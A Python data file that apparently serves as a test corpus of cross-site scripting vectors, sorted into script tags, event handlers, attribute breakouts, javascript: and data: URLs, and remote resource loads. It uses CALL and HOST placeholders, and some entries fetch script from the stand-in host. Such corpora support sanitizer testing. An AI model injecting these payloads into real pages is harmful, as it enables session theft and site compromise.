# SPDX-License-Identifier: EUPL-1.2
"""Texts that are live markup wherever a page takes them for markup. In each, CALL stands for a call
of the function that the browser listens for, and HOST for a host that nobody may be asked for."""

SCRIPTS = [
    '<script>CALL</script>', '<SCRIPT\n>CALL</SCRIPT\t>', '<script src=//HOST/a.js></script>',
    '<script/x=1>CALL</script/y>', '<script type=module>CALL</script>',
    '</script><script>CALL</script>', '<script\x0c>CALL</script>',
    '<script>\u2028CALL//\u2029</script>', '<svg><script>CALL</script></svg>',
    '<svg><script href=//HOST/b.js></script></svg>', '<script>/*</b>*/CALL</script>',
    '<svg><script>&#x20;CALL&#x3B;</script></svg>', "'-CALL-'", '"-CALL-"', "\\'-CALL//",
    '`${CALL}`', '*/CALL/*',
]

HANDLERS = [
    '<img src=x onerror=CALL>', "<img src='x'onerror='CALL'>", '<img src="x"onerror="CALL">',
    '<img src=`x` onerror=CALL>', '<image src=x onerror=CALL>', '<svg onload=CALL>',
    '<svg\nonload\n=\nCALL\n>', '<body onload=CALL>', '<body onpageshow=CALL>',
    '<iframe onload=CALL></iframe>', '<video><source onerror=CALL></video>',
    '<video src=x onerror=CALL onloadstart=CALL></video>', '<object data=x onerror=CALL></object>',
    '<style onload=CALL></style>', '<script src=x onerror=CALL></script>',
    '<link rel=stylesheet href=x onerror=CALL>', '<input autofocus onfocus=CALL>',
    '<textarea autofocus onfocus=CALL></textarea>', '<a tabindex=1 autofocus onfocus=CALL>x</a>',
    '<select autofocus onfocus=CALL></select>',
    '<details open ontoggle=CALL><summary>x</summary></details>',
    '<p contenteditable autofocus onfocus=CALL>x</p>',
    '<svg><set attributeName=x begin=0s onbegin=CALL /></svg>',
    '<svg><animate attributeName=x dur=1s onbegin=CALL /></svg>',
    '<marquee onstart=CALL>x</marquee>',
    '<button popovertarget=a>x</button><div popover id=a onbeforetoggle=CALL>y</div>',
    '<div onpointerrawupdate=CALL onpointerenter=CALL>x</div>',
    '<form oninput=CALL><input></form>', '<dialog open oncancel=CALL onclose=CALL>x</dialog>',
    '<x onclick=CALL tabindex=0>x', '<picture><source srcset=x><img onerror=CALL></picture>',
]

BREAKOUTS = [
    '" onmouseover="CALL', "' onmouseover='CALL", '` onmouseover=`CALL', 'x onmouseover=CALL x',
    '"><img src=x onerror=CALL>', "'><img src=x onerror=CALL>", '><img src=x onerror=CALL>',
    '" autofocus onfocus=CALL x="', "' autofocus onfocus=CALL x='", '"/onfocus=CALL/autofocus/x="',
    '"\nonfocus="CALL" autofocus="', '"onfocus="CALL"autofocus="', '" formaction="javascript:CALL',
    "' srcdoc='<script>parent.CALL</script>", "' style='background:url(//HOST/e.png)' x='",
    '\\" onfocus=\\"CALL\\" autofocus x=\\"', '"]}</script><img src=x onerror=CALL>',
    '{"a":"</script><svg onload=CALL>"}', '\'"><svg/onload=CALL>',
]

ADDRESSES = [
    'javascript:CALL', 'java\tscript:CALL', 'java\nscript:CALL', '\x01javascript:CALL',
    ' javascript:CALL', 'javascript&colon;CALL', '&#106;avascript:CALL', '&#x6A&#x61vascript:CALL',
    'javascript://%0aCALL', 'javascript:CALL//http://HOST/',
    'javascript:/*--></title></style></textarea></script><svg onload=CALL>*/',
    'data:text/html,<script>parent.CALL</script>',
    'data:text/html;charset=utf-8,<svg onload=CALL>',
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CALL'/>", '//HOST/',
    '\\\\HOST\\f', '/\\HOST/g', 'https://HOST/i?<svg onload=CALL>',
    "<a href='java&Tab;script&colon;CALL'>x</a>",
    '<svg><a xlink:href=javascript:CALL><text y=9>x</text></a></svg>',
    '<math><maction actiontype=statusline xlink:href=javascript:CALL>x</maction></math>',
    '<form action=javascript:CALL><button>x</button></form>',
    '<button form=f formaction=javascript:CALL>x</button><form id=f></form>',
    "<object data='data:text/html,<script>parent.CALL</script>'></object>",
    "<embed src='data:image/svg+xml,<svg"
    " xmlns=&quot;http://www.w3.org/2000/svg&quot; onload=&quot;CALL&quot;/>'>",
]

LOADS = [
    '<img src=//HOST/j.png>', "<img srcset='//HOST/k.png 1x'>", '<iframe src=//HOST/l></iframe>',
    "<iframe srcdoc='<script>CALL</script>'></iframe>",
    '<iframe srcdoc="&lt;svg onload=CALL&gt;"></iframe>', '<object data=//HOST/m></object>',
    '<video poster=//HOST/n.png></video>', '<input type=image src=//HOST/o>',
    '<table background=//HOST/q.png><tr><td>x</table>', '<link rel=stylesheet href=//HOST/r.css>',
    "<style>@import '//HOST/t.css';</style>", '<style>*{background:url(//HOST/u.png)}</style>',
    '<p style=background:url(//HOST/v.png)>x</p>',
    "<meta http-equiv=refresh content='0;url=//HOST/w'>",
    '<meta http-equiv=refresh content="0;url=javascript:CALL">', '<base href=//HOST/><img src=x>',
    '<form action=//HOST/y><input name=a></form>', '<frameset onload=CALL>',
]
